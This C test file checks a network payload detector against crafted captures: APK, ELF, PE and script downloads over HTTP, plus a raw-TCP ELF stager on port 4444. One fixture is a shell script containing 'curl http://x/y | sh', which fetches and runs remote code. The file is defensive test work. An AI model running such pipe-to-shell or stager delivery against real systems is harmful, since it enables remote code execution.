/* Tests for src/detect/payload.c on crafted captures: an APK (ZIP with
 * AndroidManifest.xml), an ELF and a script downloaded over HTTP fire with
 * the SHA-256 of the body; a JavaScript file and a PNG are silent; a plain
 * ZIP is a low "archive" finding that report_archives=0 turns off; a cut
 * download says its hash covers only part of the body. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <openssl/evp.h>

#include "check_fixture.h"

#define TS0 (1700000000ull * 1000000000ull)

static uint8_t body[6000];

/* GET path; the reply carries n bytes of body (Content-Length: declared,
 * 0 = n). */
static void download(struct cfx *c, uint16_t sport, const char *path,
		     const uint8_t *b, size_t n, size_t declared, uint64_t ts)
{
	char req[256], hdr[256];
	snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: dl.example\r\n\r\n",
		 path);
	int h = snprintf(hdr, sizeof hdr, "HTTP/1.1 200 OK\r\nContent-Type: "
			 "application/octet-stream\r\nContent-Length: %zu\r\n\r\n",
			 declared ? declared : n);
	static uint8_t resp[8000];
	memcpy(resp, hdr, (size_t)h);
	memcpy(resp + h, b, n);
	struct cfx_tcp t;
	cfx_tcp_open(c, &t, "192.168.1.23", sport, "203.0.113.90", 80, ts);
	cfx_tcp_send(c, &t, 0, ts + 3000000, req, strlen(req));
	cfx_tcp_send(c, &t, 1, ts + 4000000, resp, (size_t)h + n);
	cfx_tcp_close(c, &t, ts + 9000000);
}

static void sha256_hex(const uint8_t *b, size_t n, char out[65])
{
	uint8_t md[32];
	unsigned len = 0;
	EVP_Digest(b, n, md, &len, EVP_sha256(), NULL);
	for (unsigned i = 0; i < 32; i++)
		snprintf(out + 2 * i, 3, "%02x", md[i]);
}

/* A ZIP local header for `name`, then filler: n bytes in all. */
static size_t zip(uint8_t *b, size_t n, const char *name)
{
	memset(b, 'z', n);
	memcpy(b, "PK\x03\x04\x14\x00\x00\x00\x08\x00", 10);
	memset(b + 10, 0, 20);
	b[26] = (uint8_t)strlen(name);
	b[27] = 0;
	memcpy(b + 30, name, strlen(name));
	return n;
}

static void test_apk_with_hash(void **state)
{
	(void)state;
	/* the manifest entry lies past the first chunk (2nd segment) */
	size_t n = zip(body, 5000, "META-INF/MANIFEST.MF");
	memcpy(body + 1500, "PK\x03\x04", 4);
	memcpy(body + 1530, "AndroidManifest.xml", 19);
	char hex[65];
	sha256_hex(body, n, hex);
	struct cfx c;
	cfx_open(&c);
	download(&c, 40000, "/update.apk?token=abc", body, n, 0, TS0);
	struct ph_findings *f = cfx_run(&c, NULL, 0);
	assert_int_equal(c.rc, 0);
	const struct ph_finding *x = cfx_find(f, "payload.apk");
	assert_non_null(x);
	assert_int_equal(x->severity, PH_SEV_HIGH);
	assert_string_equal(x->matched, hex);
	assert_string_equal(x->field, "http.body.sha256");
	assert_string_equal(x->attack, "T1105");
	assert_non_null(strstr(x->explain, "http://dl.example/update.apk"));
	assert_null(strstr(x->explain, "token"));
	assert_null(strstr(x->explain, "incomplete"));
	assert_null(cfx_find(f, "payload.archive"));
	cfx_close(&c, f);
}

static void test_elf_script_and_static(void **state)
{
	(void)state;
	static const uint8_t elf[64] = {0x7f, 'E', 'L', 'F', 2, 1, 1};
	static const char sh[] = "#!/bin/sh\ncurl http://x/y | sh\n";
	static const char js[] = "function a(){return 1}\n";
	static const uint8_t png[16] = {0x89, 'P', 'N', 'G', '\r', '\n'};
	struct cfx c;
	cfx_open(&c);
	download(&c, 40000, "/bin/x", elf, sizeof elf, 0, TS0);
	download(&c, 40001, "/i.sh", (const uint8_t *)sh, sizeof sh - 1, 0,
		 TS0 + 20000000);
	download(&c, 40002, "/a.js", (const uint8_t *)js, sizeof js - 1, 0,
		 TS0 + 40000000);
	download(&c, 40003, "/p.png", png, sizeof png, 0, TS0 + 60000000);
	struct ph_findings *f = cfx_run(&c, NULL, 0);
	assert_int_equal(c.rc, 0);
	const struct ph_finding *x = cfx_find(f, "payload.elf");
	assert_non_null(x);
	assert_int_equal(x->severity, PH_SEV_HIGH);
	assert_int_equal(x->confidence, PH_CONF_HIGH);
	x = cfx_find(f, "payload.script");
	assert_non_null(x);
	assert_int_equal(x->severity, PH_SEV_MEDIUM);
	assert_int_equal(cfx_count(f, "payload."), 2);
	cfx_close(&c, f);
}

static void test_zip_archive_and_option(void **state)
{
	(void)state;
	size_t n = zip(body, 300, "photos/a.jpg");
	struct cfx c;
	cfx_open(&c);
	download(&c, 40000, "/a.zip", body, n, 0, TS0);
	struct ph_findings *f = cfx_run(&c, NULL, 0);
	const struct ph_finding *x = cfx_find(f, "payload.archive");
	assert_non_null(x);
	assert_int_equal(x->severity, PH_SEV_LOW);
	assert_null(cfx_find(f, "payload.apk"));
	cfx_close(&c, f);
	cfx_open(&c);
	download(&c, 40000, "/a.zip", body, n, 0, TS0);
	const char *set[] = {"payload.report_archives=0"};
	f = cfx_run(&c, set, 1);
	assert_int_equal(cfx_count(f, "payload."), 0);
	cfx_close(&c, f);
}

static void test_cut_download_is_marked(void **state)
{
	(void)state;
	uint8_t pe[1024];
	memset(pe, 0, sizeof pe);
	pe[0] = 'M', pe[1] = 'Z', pe[0x3c] = 0x80;
	memcpy(pe + 0x80, "PE\0\0", 4);
	struct cfx c;
	cfx_open(&c);
	download(&c, 40000, "/setup.exe", pe, sizeof pe, 4096, TS0);
	struct ph_findings *f = cfx_run(&c, NULL, 0);
	const struct ph_finding *x = cfx_find(f, "payload.pe");
	assert_non_null(x);
	assert_int_equal(x->severity, PH_SEV_MEDIUM);
	assert_non_null(strstr(x->explain, "incomplete"));
	cfx_close(&c, f);
}

static void test_raw_tcp_stager(void **state)
{
	(void)state;
	/* a 4-byte length, then an ELF, on a non-HTTP port (a stager) */
	static uint8_t elf[2000] = {0x7f, 'E', 'L', 'F', 1, 1, 1};
	static const uint8_t len[4] = {0xd0, 0x07, 0, 0};
	char hex[65];
	sha256_hex(elf, sizeof elf, hex);
	struct cfx c;
	struct cfx_tcp t;
	cfx_open(&c);
	cfx_tcp_open(&c, &t, "192.168.1.23", 40000, "203.0.113.44", 4444, TS0);
	cfx_tcp_send(&c, &t, 1, TS0 + 3000000, len, sizeof len);
	cfx_tcp_send(&c, &t, 1, TS0 + 4000000, elf, sizeof elf);
	cfx_tcp_close(&c, &t, TS0 + 9000000);
	/* the nearest benign case: binary data that is no program */
	static const uint8_t noise[64] = {0x17, 0x03, 0x03, 0x00, 0x3b};
	cfx_tcp_open(&c, &t, "192.168.1.23", 40001, "203.0.113.45", 4444,
		     TS0 + 20000000);
	cfx_tcp_send(&c, &t, 1, TS0 + 23000000, noise, sizeof noise);
	cfx_tcp_close(&c, &t, TS0 + 29000000);
	struct ph_findings *f = cfx_run(&c, NULL, 0);
	const struct ph_finding *x = cfx_find(f, "payload.elf");
	assert_non_null(x);
	assert_string_equal(x->matched, hex);
	assert_string_equal(x->field, "tcp.payload.sha256");
	assert_int_equal(x->remote_port, 4444);
	assert_int_equal(cfx_count(f, "payload."), 1);
	cfx_close(&c, f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_apk_with_hash),
		cmocka_unit_test(test_elf_script_and_static),
		cmocka_unit_test(test_zip_archive_and_option),
		cmocka_unit_test(test_cut_download_is_marked),
		cmocka_unit_test(test_raw_tcp_stager),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
